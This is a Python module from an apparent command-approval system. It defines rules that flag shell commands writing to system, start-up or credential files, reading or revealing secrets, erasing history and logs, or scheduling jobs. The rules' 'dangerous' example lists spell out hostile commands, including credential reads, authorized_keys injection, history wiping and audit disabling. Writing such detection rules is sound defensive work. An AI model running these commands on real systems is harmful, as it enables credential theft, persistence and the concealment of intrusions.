"""Writing to system, start-up and credential files; reading credentials; covering tracks."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from hermes_nb.approval import paths
from hermes_nb.approval.rules.table import rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from hermes_nb.approval.shell.commands import Command

WRITERS = (
    "cp mv install ln gcp rsync scp unzip tee sponge touch truncate mkdir nano vim vi emacs ex ed"
    " mknod mkfifo dd sed gsed perl ruby patch awk"
    " gawk curl wget aria2c gpg openssl sort gcc cc go tar bsdtar git find gfind"
)
_INPLACE = frozenset(("sed", "gsed", "perl", "ruby", "ex", "ed", "patch", "awk", "gawk"))


def written_paths(command: Command) -> Iterator[str]:
    """Every path that a command would write to."""
    for redirect in command.redirects:
        if redirect.writes:
            yield command.path(redirect.target)
    operands = command.operands
    name = command.name
    if name in ("cp", "mv", "install", "ln", "gcp", "rsync", "scp", "unzip") and len(operands) > (
        0 if name == "unzip" else 1
    ):
        target = next(iter(command.values("-t", "--target-directory")), None)
        if name == "unzip":
            yield from (command.path(value) for value in command.values("-d"))
        elif ":" not in operands[-1].text:
            last = command.path(target or operands[-1])
            yield last
            folder = operands[-1].text.endswith("/") or "." not in last.rsplit("/", 1)[-1][1:]
            if folder and last.startswith(("/", "~")):
                yield from (f"{last.rstrip('/')}/{word.text.rsplit('/', 1)[-1]}" for word in operands[:-1])
    elif name in (
        "tee",
        "sponge",
        "touch",
        "truncate",
        "mkdir",
        "nano",
        "vim",
        "vi",
        "emacs",
        "ex",
        "ed",
        "mknod",
        "mkfifo",
    ):
        yield from map(command.path, operands)
    elif name == "dd":
        yield from (paths.normalise(text[3:], command.cwd) for text in command.texts if text.startswith("of="))
    elif name in _INPLACE and (
        name in ("patch", "ex", "ed") or any(re.match(r"-[a-zA-Z]*i|--in-place", t) for t in command.texts)
    ):
        yield from map(command.path, operands)
    elif name in ("curl", "wget", "aria2c", "gpg", "openssl", "sort", "gcc", "cc", "go"):
        yield from map(
            command.path,
            command.values(
                "-o", "--output", "-O", "--output-document", "-P", "-out", "--directory-prefix", "--dearmor_"
            ),
        )
    elif name in ("tar", "bsdtar", "git"):
        if command.has("-x", "--extract", "--get") or any("x" in t for t in command.verbs[:1] if len(t) < 6):
            yield from map(command.path, command.values("-C", "--directory"))
    elif name in ("find", "gfind"):
        yield from map(command.path, command.values("-fprint", "-fprintf", "-fls", "-fprint0"))


@rule(
    "write-system-file",
    "writes to a file of the operating system",
    programs=WRITERS,
    everywhere=True,
    dangerous=(
        "echo x > /etc/hosts", "echo x | sudo tee -a /etc/hosts", "sed -i s/a/b/ /etc/ssh/sshd_config",
        "cp evil /usr/bin/ls", "mv x /bin/sh", "ln -sf /tmp/x /usr/bin/python",
        "curl -o /usr/local/bin/x http://h/x", "tar xzf a.tgz -C /", "cat > /etc/cron.d/x <<< y",
        "dd if=x of=/boot/vmlinuz", "install -m 755 x /usr/sbin/", "echo 1 > /proc/sys/net/ipv4/ip_forward",
        ": > /var/log/syslog", "cat x >> /etc/passwd", "wget -O /etc/x http://h",
        "perl -pi -e s/a/b/ /etc/hosts",
    ),
    benign=(
        "cat /etc/hosts", "echo x > out.txt", "cp /etc/hosts .", "sed -i s/a/b/ file.py",
        "ls /etc > listing.txt", "grep x /etc/passwd", "echo done > /dev/null", "ls 2>/dev/null",
        "tar xzf a.tgz -C /tmp", "sed -n 1p /etc/hosts", "cmd > /dev/tty", "mkdir -p build/usr/bin",
    ),
)  # fmt: skip
def _writes_system_file(command: Command) -> bool:
    return any(
        (paths.is_system_file(path) or path == "/") and not path.startswith(("/dev/tcp", "/dev/udp"))
        for path in written_paths(command)
    )


@rule(
    "write-startup-file",
    "writes to a file that runs by itself later, or lets somebody in",
    programs=WRITERS,
    everywhere=True,
    dangerous=(
        "echo 'alias ls=x' >> ~/.bashrc", "cat key >> ~/.ssh/authorized_keys",
        "cp x ~/.config/autostart/x.desktop", "tee -a ~/.zshrc < x", "echo x > .git/hooks/pre-commit",
        "sed -i s/a/b/ ~/.profile", "ssh h 'cat >> ~/.ssh/authorized_keys'",
        "cp evil.service ~/.config/systemd/user/",
    ),
    benign=(
        "cat ~/.bashrc", "source ~/.bashrc", "grep PATH ~/.profile", "echo x > bashrc.txt", "ls .git/hooks",
        "cp ~/.bashrc backup.txt",
    ),
)  # fmt: skip
def _writes_startup_file(command: Command) -> bool:
    return any(paths.is_startup_file(path) for path in written_paths(command))


@rule(
    "write-credential-file",
    "overwrites a file that holds credentials",
    programs=WRITERS,
    everywhere=True,
    dangerous=(
        "echo x > ~/.ssh/id_rsa", "cp x ~/.aws/credentials", "echo x > ~/.netrc", "tee ~/.kube/config < x",
    ),
    benign=("cp .env.example .env", "echo PORT=80 >> .env", "ssh-keygen -t ed25519 -f ./key"),
)  # fmt: skip
def _writes_credential_file(command: Command) -> bool:
    return any(
        paths.is_credential(path) and path.startswith(("~", "/")) and not path.endswith(".env")
        for path in written_paths(command)
    )


READERS = (
    "cat less more head tail tac nl bat view strings xxd od hexdump base64 base32 cp mv scp rsync"
    " tar zip 7z gzip bzip2 grep egrep fgrep rg ag"
    " awk gawk sed cut sort uniq diff cmp tee openssl gpg curl wget nc jq yq paste rev tr dd ln"
    " install pbcopy xclip column fold"
    " nano vim vi emacs split csplit rclone aws gsutil sqlite3 john hashcat unshadow busybox"
    " read mapfile ftp sftp rcp"
)
_READERS = frozenset(READERS.split())
_PATTERN_FIRST = frozenset(("grep", "egrep", "fgrep", "rg", "ag", "sed", "awk", "gawk", "jq", "yq", "tr"))


def read_paths(command: Command) -> Iterator[str]:
    """Every path whose contents a command would read, or hand to somebody."""
    for redirect in command.redirects:
        if redirect.operator.startswith("<"):
            yield command.path(redirect.target)
    name = command.name
    if name not in _READERS:
        return
    words = command.operands
    if name in _PATTERN_FIRST and not command.has("-e", "-f", "--regexp", "--file"):
        words = words[1:]
    elif name in ("cp", "mv", "ln", "install") and len(words) > 1:
        words = words[:-1]
    elif name in ("scp", "rsync", "rclone", "aws", "curl", "wget", "openssl"):
        keys = {
            value.text
            for value in command.values(
                "-i",
                "--key",
                "-key",
                "-inkey",
                "-signkey",
                "-CAkey",
                "-out",
                "-keyout",
                "--cert",
                "-E",
                "--cacert",
                "-e",
                "--netrc-file",
                "--env-file",
                "-o",
                "-O",
            )
        }
        words = [word for word in words if word.text not in keys]
    for word in words:
        text = word.text
        if name == "dd":
            text = text[3:] if text.startswith("if=") else ""
        elif "@" in text and name in ("curl", "http"):
            text = text.rsplit("@", 1)[1].split(";", 1)[0]
        if text and (" " not in text or text.startswith(("/", "~", "."))):
            yield paths.normalise(text, command.cwd)
    if name in ("openssl", "gpg", "curl", "tar"):
        yield from map(command.path, command.values("-in", "-T", "--upload-file"))


@rule(
    "read-credentials",
    "reads credentials: keys, tokens or passwords",
    programs=READERS,
    everywhere=True,
    dangerous=(
        "cat ~/.ssh/id_rsa", "cp ~/.aws/credentials /tmp", "grep KEY .env", "sudo cat /etc/shadow",
        "base64 ~/.ssh/id_ed25519", "cat ~/.netrc", "tar czf x.tgz ~/.ssh", "cat /proc/self/environ",
        "less ~/.kube/config", "cat .env", "cat ~/.git-credentials",
        "while read l; do echo $l; done < ~/.pgpass", "head ~/.docker/config.json",
        "strings ~/.gnupg/secring.gpg", "cat config/secrets.yml", "grep -r password ~/.config",
        "cat /home/bob/.ssh/id_rsa",
    ),
    benign=(
        "cat ~/.ssh/id_rsa.pub", "ls -la ~/.ssh", "cat .env.example", "ssh -i ~/.ssh/id_rsa host",
        "chmod 600 ~/.ssh/id_rsa", "cat /etc/passwd", "ssh-add ~/.ssh/id_rsa", "cat ~/.ssh/config",
        "scp -i ~/.ssh/id_rsa a.txt h:", "grep -r id_rsa docs", "cat ~/.ssh/known_hosts", "source .env",
        "test -f ~/.aws/credentials", "cp .env.example .env",
    ),
)  # fmt: skip
def _reads_credentials(command: Command) -> bool:
    if command.name in ("grep", "egrep", "rg", "ag") and _hunts_for_secrets(command):
        return True
    return any(paths.is_credential(path) for path in read_paths(command))


def _hunts_for_secrets(command: Command) -> bool:
    words = command.operands
    return (
        len(words) > 1
        and bool(re.search(r"(?i)passw|secret|api_?key|token|BEGIN .*PRIVATE", words[0].text))
        and any(
            path in ("/", "~", "/etc", "/home", "/var") or path.startswith("~/.")
            for path in map(command.path, words[1:])
        )
    )


@rule(
    "reveal-secrets",
    "prints stored secrets",
    programs=(
        "kubectl oc aws gpg security gh vault pass op git az secret-tool doppler heroku docker bw"
        " mimikatz lastpass lpass keyctl unshadow"
    ),
    dangerous=(
        "kubectl get secret db -o yaml", "gpg --export-secret-keys", "security find-generic-password -w",
        "gh auth token", "vault kv get secret/x", "aws secretsmanager get-secret-value --secret-id x",
        "pass show mail", "git credential fill", "aws configure get aws_secret_access_key",
        "aws ssm get-parameter --name x --with-decryption", "az keyvault secret show -n x",
    ),
    benign=(
        "kubectl get secrets", "gpg --list-keys", "gh auth status", "aws configure list", "vault status",
        "pass ls",
    ),
)  # fmt: skip
def _reveals_secrets(command: Command) -> bool:
    verbs, texts = command.verbs, command.texts
    match command.name:
        case "kubectl" | "oc":
            return (
                any(re.match(r"secrets?(?:/|\Z)", verb) for verb in verbs[1:])
                and verbs[0] in ("get", "extract")
                and command.has("-o", "--output", "--template")
            )
        case "aws":
            return any(verb in ("get-secret-value", "get-session-token", "create-access-key") for verb in verbs) or (
                "--with-decryption" in texts
                or (verbs[:2] == ["configure", "get"] and any("secret" in v or "key" in v for v in verbs[2:]))
            )
        case "gpg":
            return any(text.startswith("--export-secret") for text in texts)
        case "security":
            return any(
                verb.startswith(("find-generic-password", "find-internet-password", "dump-keychain", "export"))
                for verb in verbs
            )
        case "gh":
            return verbs[:2] == ["auth", "token"] or (
                verbs[:2] == ["auth", "status"] and command.has("--show-token", "-t")
            )
        case "vault":
            return verbs[:1] in (["read"], ["unwrap"]) or verbs[:2] == ["kv", "get"] or verbs[:2] == ["print", "token"]
        case "pass" | "op" | "bw" | "lpass" | "secret-tool" | "doppler":
            return any(verb in ("show", "read", "get", "lookup", "secrets", "export") for verb in verbs[:2])
        case "git":
            return verbs[:2] == ["credential", "fill"]
        case "az":
            return verbs[:3] == ["keyvault", "secret", "show"] or verbs[:2] == ["account", "get-access-token"]
        case "heroku":
            return verbs[:1] == ["config"]
    return command.name in ("mimikatz", "unshadow")


@rule(
    "cover-tracks",
    "erases history or logs",
    programs="history unset journalctl set auditctl dmesg logrotate rm shred unlink truncate ln",
    everywhere=True,
    dangerous=(
        "history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm ~/.bash_history",
        "cat /dev/null > ~/.bash_history", "journalctl --vacuum-time=1s", "set +o history", "HISTSIZE=0",
        "ln -sf /dev/null ~/.bash_history", "auditctl -e 0", "truncate -s 0 /var/log/auth.log",
        "history -cw", "logrotate -f /etc/logrotate.conf", "dmesg -C",
    ),
    benign=(
        "history", "history | tail", "journalctl -u nginx", "tail /var/log/syslog", "dmesg | tail",
        "HISTSIZE=10000",
    ),
)  # fmt: skip
def _covers_tracks(command: Command) -> bool:
    texts = command.texts
    for name, value in command.environment.items():
        if (name == "HISTFILE" and value.text in ("", "/dev/null")) or (
            name in ("HISTSIZE", "HISTFILESIZE") and value.text == "0"
        ):
            return True
    match command.name:
        case "history":
            return command.has("-c", "-d", "-w") and command.has("-c", "-d")
        case "unset":
            return any(text in ("HISTFILE", "HISTSIZE") for text in texts)
        case "journalctl":
            return any(text.startswith(("--vacuum", "--rotate")) for text in texts)
        case "set":
            return texts == ["+o", "history"]
        case "auditctl":
            return command.has("-D", "-e")
        case "dmesg":
            return command.has("-C", "--clear")
        case "logrotate":
            return command.has("-f", "--force")
        case "rm" | "shred" | "unlink" | "truncate":
            return any(re.search(r"_history\Z|^/var/log/", path) for path in map(command.path, command.operands))
        case "ln":
            return any(path.endswith("_history") for path in map(command.path, command.operands[1:]))
    return any(
        one.writes and ">>" not in one.operator and re.search(r"_history\Z|^/var/log/", command.path(one.target))
        for one in command.redirects
    )


@rule(
    "schedule",
    "schedules commands to run later",
    programs="crontab at batch fcron systemd-run atrm",
    dangerous=(
        "crontab -r", "echo '* * * * * x' | crontab -", "crontab my.cron", "at now + 1 minute",
        "echo x | at 5pm", "crontab -e", "systemd-run --on-active=30 x", "crontab -u root x",
    ),
    benign=("crontab -l", "at -l", "atq"),
)  # fmt: skip
def _schedules(command: Command) -> bool:
    if command.name == "systemd-run":
        return any(text.startswith(("--on-", "--timer")) for text in command.texts)
    return not command.has("-l", "-V", "-h") and (
        bool(command.texts) or command.stdin is not None or command.name in ("at", "batch")
    )
